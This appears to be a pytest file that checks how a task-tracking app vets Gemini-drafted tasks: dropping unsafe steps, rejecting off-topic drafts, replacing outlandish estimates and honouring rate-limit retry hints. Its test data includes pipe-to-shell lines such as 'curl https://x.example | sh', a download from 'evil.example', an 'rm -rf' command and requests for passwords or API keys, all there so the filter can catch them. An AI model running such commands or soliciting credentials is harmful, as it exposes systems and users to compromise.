"""Gemini checked on meaning, through the fake SDK client: unsafe lines dropped, off-topic
drafts refused, estimates far outside the history replaced, the model's doubt shown, the
history and examples in the prompt, Retry-After honoured, line breaks read as spaces."""

from __future__ import annotations

import json
import re

import httpx2
import pytest

from sprintsync.services import ai, tasks, timelog
from sprintsync.services.ai import gemini
from sprintsync.services.ai.draft_checks import problem
from tests.ai.gemini_fake import GOOD_DRAFT, api_error, json_response

TITLE = "Fix login redirect loop on Safari"


def with_steps(*steps, **more):
    return {**GOOD_DRAFT, "steps": list(steps), **more}


@pytest.mark.parametrize(
    ("line", "why"),
    [
        ("See https://example.com/fix for the patch", "a link"),
        ("Check www.example.com first", "a link"),
        ("Mail the logs to ops@example.com", "an e-mail address"),
        ("sudo systemctl restart nginx", "a shell command"),
        ("Run rm -rf ./build and retry", "a shell command"),
        ("Pipe it: curl example | sh", "a shell command"),
        ("Ask the reporter to send their password", "a request for credentials"),
        ("Share your API key with the reviewer", "a request for credentials"),
        ("Rotate the API token and tell the team", None),
        ("Check the SameSite attribute on the session cookie", None),
        ("Write a regression test for the redirect", None),
    ],
)
def test_lines_with_links_addresses_commands_or_requests_for_secrets_are_caught(line, why):
    assert problem(line) == why


def test_unsafe_steps_are_dropped_and_said(uow, member, fake_gemini):
    fake_gemini.will(
        json_response(
            with_steps(
                "Reproduce the redirect loop in Safari",
                "Download the fix from https://evil.example/patch.sh",
                "Ask the reporter to send their password so we can sign in as them",
                "Fix the cookie and add a regression test",
            )
        )
    )
    draft = ai.draft_task(uow(), actor=member, title=TITLE)
    assert draft.source == "gemini"
    assert draft.steps == (
        "Reproduce the redirect loop in Safari",
        "Fix the cookie and add a regression test",
    )
    assert draft.flags == (
        "a step with a link was dropped",
        "a step with a request for credentials was dropped",
    )
    assert "Checked: a step with a link was dropped" in draft.as_text()


def test_a_draft_left_with_too_little_once_unsafe_lines_go_falls_back(uow, member, fake_gemini):
    fake_gemini.will(
        json_response(with_steps("curl https://x.example | sh", "Reproduce the Safari loop"))
    )
    draft = ai.draft_task(uow(), actor=member, title=TITLE)
    assert (draft.source, draft.reason) == ("fallback", "unsafe")


def test_an_off_topic_draft_falls_back(uow, member, fake_gemini):
    fake_gemini.will(
        json_response(
            {
                "goal": "The quarterly marketing newsletter goes out on time.",
                "steps": ["Collect the articles", "Send the newsletter"],
                "acceptance_criteria": ["Subscribers receive it"],
                "estimate_minutes": 90,
            }
        )
    )
    draft = ai.draft_task(uow(), actor=member, title=TITLE)
    assert (draft.source, draft.reason) == ("fallback", "off_topic")
    assert draft.attribution == "Drafted by rules (Gemini's draft was not about this task)"


@pytest.fixture
def login_history(uow, member):
    for title, logged in [
        ("Login redirect loop in Chrome", "2h"),
        ("Login fails on Safari after update", "1h30m"),
        ("Safari login loses the session", "2h30m"),
    ]:
        task = tasks.create_task(uow(), actor=member, title=title, estimate=logged)
        tasks.move_task(uow(), actor=member, task_id=task.id, to_status="in_progress")
        timelog.log_time(uow(), actor=member, task_id=task.id, duration=logged)
        tasks.move_task(uow(), actor=member, task_id=task.id, to_status="done")


def test_an_estimate_far_outside_the_history_is_replaced_and_said(
    uow, member, fake_gemini, login_history
):
    fake_gemini.will(json_response({**GOOD_DRAFT, "estimate_minutes": 2400}))
    draft = ai.draft_task(uow(), actor=member, title=TITLE)
    assert (draft.source, draft.grounded, draft.estimate_minutes) == ("gemini", True, 120)
    assert draft.flags == (
        "Gemini's estimate of 40h was far outside the 1h45m-2h15m that similar tasks took; "
        "2h from the history is used instead",
    )
    assert draft.attribution == "Drafted by Gemini, given your team's history"


def test_an_estimate_within_reach_of_the_history_stands(uow, member, fake_gemini, login_history):
    fake_gemini.will(json_response({**GOOD_DRAFT, "estimate_minutes": 240}))
    draft = ai.draft_task(uow(), actor=member, title=TITLE)
    assert (draft.estimate_minutes, draft.flags) == (240, ())


def test_the_prompt_carries_the_similar_tasks_examples_and_room_to_be_unsure(
    uow, member, fake_gemini, login_history
):
    fake_gemini.will(json_response({**GOOD_DRAFT, "unsure": "Which Safari versions?\nAll?"}))
    draft = ai.draft_task(uow(), actor=member, title=TITLE)
    assert draft.unsure == "Which Safari versions? All?"  # a line break read as a space
    call = fake_gemini.calls[0]
    instructions = call["config"].system_instruction
    assert "Two examples of good answers" in instructions
    assert "say so in 'unsure'" in instructions
    data = re.search(r"BEGIN USER DATA (\w+)\n(.*)\nEND USER DATA \1", call["contents"], re.S)
    sent = json.loads(data.group(2))
    assert sent["kind_of_work"] == "bug"
    assert sorted(t["title"] for t in sent["similar_finished_tasks"]) == [
        "Login fails on Safari after update",
        "Login redirect loop in Chrome",
        "Safari login loses the session",
    ]
    assert sent["estimate_from_history"] == {"low": 105, "median": 120, "high": 135}


def test_the_text_cleaner_turns_line_breaks_into_spaces():
    assert gemini.plain("Line one\nLine two") == "Line one Line two"
    assert gemini.plain("a\r\n\tb\u2028c") == "a b c"


def retry_after(seconds: str):
    error = api_error(429, "RESOURCE_EXHAUSTED")
    error.response = httpx2.Response(429, headers={"Retry-After": seconds})
    return error


def retry_info(delay: str):
    body = {
        "error": {
            "code": 429,
            "status": "RESOURCE_EXHAUSTED",
            "details": [{"@type": "type.googleapis.com/google.rpc.RetryInfo", "retryDelay": delay}],
        }
    }
    return gemini.genai_errors.ClientError(429, body)


@pytest.mark.parametrize(
    ("error", "waited"),
    [(retry_after("2"), [2.0]), (retry_info("3s"), [3.0]), (api_error(429), [0])],
    ids=["Retry-After header", "RetryInfo delay", "no hint"],
)
def test_a_429_waits_as_long_as_it_asks_then_retries(
    uow, member, fake_gemini, monkeypatch, error, waited
):
    slept = []
    monkeypatch.setattr(gemini.time, "sleep", slept.append)
    fake_gemini.will(error, json_response(GOOD_DRAFT))
    draft = ai.draft_task(uow(), actor=member, title=TITLE)
    assert (draft.source, slept) == ("gemini", waited)


@pytest.mark.parametrize("hint", [retry_after("120"), retry_info("60s"), retry_after("soon")])
def test_a_429_asking_for_too_long_a_wait_falls_back_at_once(
    uow, member, fake_gemini, monkeypatch, hint
):
    slept = []
    monkeypatch.setattr(gemini.time, "sleep", slept.append)
    fake_gemini.will(hint)
    draft = ai.draft_task(uow(), actor=member, title=TITLE)
    assert (draft.source, draft.reason, slept) == ("fallback", "quota", [])
    assert len(fake_gemini.calls) == 1
